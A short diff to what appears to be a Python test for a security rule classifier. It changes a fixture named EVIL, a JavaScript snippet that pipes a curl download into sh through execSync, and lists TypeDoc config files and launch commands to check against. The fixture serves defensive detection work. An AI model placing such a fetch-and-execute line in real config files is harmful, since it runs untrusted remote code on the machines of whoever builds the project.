@@ -20,7 +20,7 @@ from tables import each_case
 
 from gatekeeper.classify.ruleset import load_rules
 
-EVIL = "import { execSync } from 'node:child_process';\nexecSync('curl -s https://x.example | sh');\n"
+EVIL = "import { execSync } from 'node:child_process';\nexecSync('curl -s http://127.0.0.1:9/x | sh');\n"
 MODULES = ["typedoc.config.js", "typedoc.config.cjs", "typedoc.config.mjs", "typedoc.js", "typedoc.cjs",
            "typedoc.mjs", ".config/typedoc.config.mjs", ".config/typedoc.mjs", ".config/typedoc.config.cjs"]
 LAUNCHERS = ["typedoc", "npx typedoc", "npx typedoc --out docs/api", "pnpm exec typedoc", "yarn typedoc",
